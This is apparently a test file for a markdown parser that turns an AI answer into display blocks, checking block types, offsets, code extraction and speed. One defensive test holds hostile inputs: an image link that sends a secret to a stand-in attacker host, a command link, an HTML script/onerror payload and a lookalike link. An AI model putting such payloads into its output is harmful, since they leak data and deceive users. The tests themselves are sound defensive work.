import assert from 'node:assert/strict';
import { lexer } from 'marked';
import { type Block, blocksOf, codeOf, type Span, standsIn } from '../../../src/panel/blocks.ts';

const read = (text: string) => blocksOf(text, lexer);
const spansOf = (block: Block | undefined): readonly Span[] =>
  block?.is === 'paragraph' || block?.is === 'heading' ? block.spans : [];
const wordsOf = (blocks: readonly Block[]): string =>
  blocks
    .flatMap(block => allSpans(block))
    .map(({ text }) => text)
    .join('');

function allSpans(block: Block): readonly Span[] {
  switch (block.is) {
    case 'list':
      return block.items.flat().flatMap(allSpans);
    case 'quote':
      return block.blocks.flatMap(allSpans);
    case 'table':
      return block.rows.flat(2);
    case 'code':
      return [{ text: block.text, at: block.at }];
    default:
      return spansOf(block);
  }
}

describe('the blocks of an answer', () => {
  it('are paragraphs, headings, lists, quotations, tables and code', () => {
    const blocks = read(
      '# Why\n\nIt **adds** `a`.\n\n- one\n- [x] two\n\n3. three\n\n> said\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n---\n\n```ts\nlet a;\n```',
    );
    assert.deepEqual(
      blocks.map(({ is }) => is),
      ['heading', 'paragraph', 'list', 'list', 'quote', 'table', 'rule', 'code'],
    );
    assert.deepEqual(spansOf(blocks[1]), [
      { text: 'It ', at: 7 },
      { text: 'adds', at: 12, isStrong: true },
      { text: ' ', at: 18 },
      { text: 'a', at: 20, isCode: true },
      { text: '.', at: 22 },
    ]);
    assert.equal(wordsOf(blocks.slice(2, 3)), 'one☑ two');
    assert.deepEqual(
      [blocks[3]?.is === 'list' && blocks[3].first, blocks[7]],
      [3, { is: 'code', language: 'ts', text: 'let a;', at: blocks[7]?.is === 'code' ? blocks[7].at : -1 }],
    );
  });

  it('say where each piece stands in the answer', () => {
    const answer =
      '## A *b* c\n\n> quoted `x` and\n> more\n\n1. first **item**\n   goes on\n2. second\n\n```\ncode\n```\n\nThe end\\! of it.';
    for (const { text, at } of read(answer).flatMap(allSpans))
      if (text.trim() !== '') assert.equal(answer.slice(at, at + text.trimEnd().length), text.trimEnd(), text);
  });

  it('A28, A29, A30, A46: have neither HTML nor pictures nor links: all is text, and says where it would lead', () => {
    const hostile = [
      '![pixel](https://evil.example/p.png?q=secret)',
      '[Retry](command:workbench.action.reloadWindow)',
      '<img src=x onerror=alert(1)><script>alert(1)</script>',
      '[https://openai.com](https://openai.com.evil.example)',
      '<https://evil.example>',
    ];
    for (const text of hostile) {
      const blocks = read(text);
      assert.deepEqual(
        blocks.map(({ is }) => is),
        ['paragraph'],
      );
      for (const span of blocks.flatMap(allSpans))
        assert.deepEqual(
          Object.keys(span).filter(name => !['text', 'at', 'isAside'].includes(name)),
          [],
        );
    }
    assert.equal(wordsOf(read(hostile[0] as string)), 'pixel (https://evil.example/p.png?q=secret)');
    assert.equal(wordsOf(read(hostile[1] as string)), 'Retry (command:workbench.action.reloadWindow)');
    assert.equal(wordsOf(read(hostile[2] as string)), hostile[2]);
    assert.equal(wordsOf(read(hostile[3] as string)), 'https://openai.com (https://openai.com.evil.example)');
    assert.equal(read('```mermaid\ngraph\n```')[0]?.is, 'code');
  });

  it('show what is still being written', () => {
    assert.deepEqual(read('Look:\n\n```ts\nlet a = 1').at(-1), {
      is: 'code',
      language: 'ts',
      text: 'let a = 1',
      at: 13,
    });
    assert.equal(wordsOf(read('It is **bo')), 'It is **bo');
  });

  it('find code also within lists and quotations, in its order', () => {
    const blocks = read('```\na\n```\n\n- x\n\n  ```js\n  b\n  ```\n\n> ```\n> c\n> ```\n');
    assert.deepEqual(
      codeOf(blocks).map(({ text }) => text),
      ['a', 'b', 'c'],
    );
  });

  it('are known by what stands in the answer, line by line', () => {
    const answer = 'Do:\n\n> ```\n> let a = 1;\n>   b();\n> ```\n';
    const [code] = codeOf(read(answer));
    assert.ok(code && standsIn(answer, code.text));
    assert.ok(standsIn(answer, 'let a = 1;\n\nb();'));
    for (const other of ['let a = 2;', 'b();\nlet a = 1;', 'let a = 1;\nb();\nb();'])
      assert.ok(!standsIn(answer, other), other);
  });

  it('A51: come in time to whatever is written, and leave nothing out', () => {
    for (const text of [
      '>'.repeat(20_000),
      '['.repeat(20_000),
      '*a'.repeat(20_000),
      `${'- '.repeat(5_000)}x`,
      '`'.repeat(30_000),
      'word '.repeat(40_000),
    ]) {
      const from = process.cpuUsage().user;
      const blocks = read(text);
      assert.ok(process.cpuUsage().user - from < 2_000_000, text.slice(0, 4));
      assert.ok(blocks.length > 0);
    }
    assert.equal(wordsOf(read('word '.repeat(40_000))).length > 199_000, true);
  });
});
